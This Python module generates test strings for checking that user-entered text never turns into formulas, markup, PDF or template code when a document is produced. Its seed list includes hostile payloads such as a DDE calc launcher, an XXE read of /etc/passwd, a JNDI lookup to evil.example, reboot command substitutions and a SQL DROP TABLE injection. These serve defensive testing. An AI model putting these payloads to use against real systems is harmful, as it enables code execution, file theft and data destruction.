"""500 strings that somebody may type or paste, each meant to be more than text somewhere; none of them may be."""

from __future__ import annotations

from itertools import chain

_SEEDS = (
    # formulas
    "=cmd|'/C calc'!A0", "=1+1", "+1+1", "-2+3", "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/","x")', "=DDE(\"a\";\"b\")",
    "\t=1", "{=1}", "'=1", "＝1+1",
    # mark-up of the web and of Word
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<a href='http://evil.example/'>x</a>", "<style>*{}</style>",
    "</style><script>x</script>", "</p></main></body>", "<!--", "-->", "<![CDATA[x]]>", "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "&nbsp;", "&y;", "&#65;", "&#x41;",
    "&amp;lt;", "&", "<", ">", '"', "'",
    "<w:p/>", "</w:t></w:r>", '<w:fldSimple w:instr="AUTOTEXT"/>', "<b>粗</b>", "<para>x</para>",
    "<font color=red>x</font>",
    # addresses and commands
    "http://evil.example/?a=1&b=2", "javascript:alert(1)", "file:///c:/x", "mailto:x@evil.example",
    "\\\\evil\\share", "../../etc/passwd",
    "%PDF-1.4", "(x", "x)", ") Tj ET", "\\(x\\)", "<</JS (x)>>", "/JavaScript", "endstream endobj",
    "\\input{x}", "$x$", "%s%n%x",
    "{0}", "{year}", "{organ}", "{{7*7}}", "${jndi:ldap://evil.example/}", "$(reboot)", "`reboot`",
    "; DROP TABLE report;--", "%00", "%0a",
    # codes of spreadsheets and page headers
    "&L&P", "&[Page]", "_x000D_", "_x0041_", "[Red]0", "#REF!", "#N/A", "1E400", "NaN", "0x10", "TRUE",
    # signs
    "\x00", "\x01\x02\x1f", "\x7f\x80\x9f", "\r", "\n", "\r\n", "\v\f", "\u2028", "\u2029",
    "\ufeff", "\ufffe", "\uffff", "\ufffd", "\ufffc",
    "\ud800", "\udfff", "\u202e倒着", "\u200b", "\u200d", "\u2060", "\u00ad", "\u3000", "\u00a0",
    "\u0301", "e\u0301\u0301", "\ufe0f",
    "😀", "👨‍👩‍👧", "🇨🇳", "𬱖", "㛃", "䶮", "𠮷", "\U0010fffd", "\ue000", "ﷺ", "שלום", "مرحبا", "한국어",
    "ไทย", "𝟙", "①", "㈠", "½", "㎡", "‰",
    # shapes
    "", " ", "长" * 400, "w" * 300, "9" * 200, "。" * 60, "（" * 40, "—" * 40,
    "一是", "二是。", "（一）", "1.", "、", "……", "“”",
)  # fmt: skip
_AROUND = ("{}", "办理{}件。", "（一）{}。又如{}。", "一是{}；\n二是{}")


def strings() -> list[str]:
    """Each alone, in a sentence, twice, and in lists: the first 500."""
    made = (around.replace("{}", seed) for around in _AROUND for seed in _SEEDS)
    return list(dict.fromkeys(chain(made)))[:500]
